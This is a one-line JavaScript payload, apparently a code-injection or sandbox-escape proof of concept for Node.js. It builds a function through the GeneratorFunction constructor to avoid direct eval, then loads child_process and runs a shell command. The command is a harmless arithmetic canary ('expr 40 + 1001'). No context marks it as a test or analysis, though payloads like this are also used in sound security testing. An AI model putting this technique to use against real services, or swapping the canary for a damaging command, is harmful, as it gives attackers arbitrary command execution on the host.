const G=Object.getPrototypeOf(function*(){}).constructor; G('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')().next();
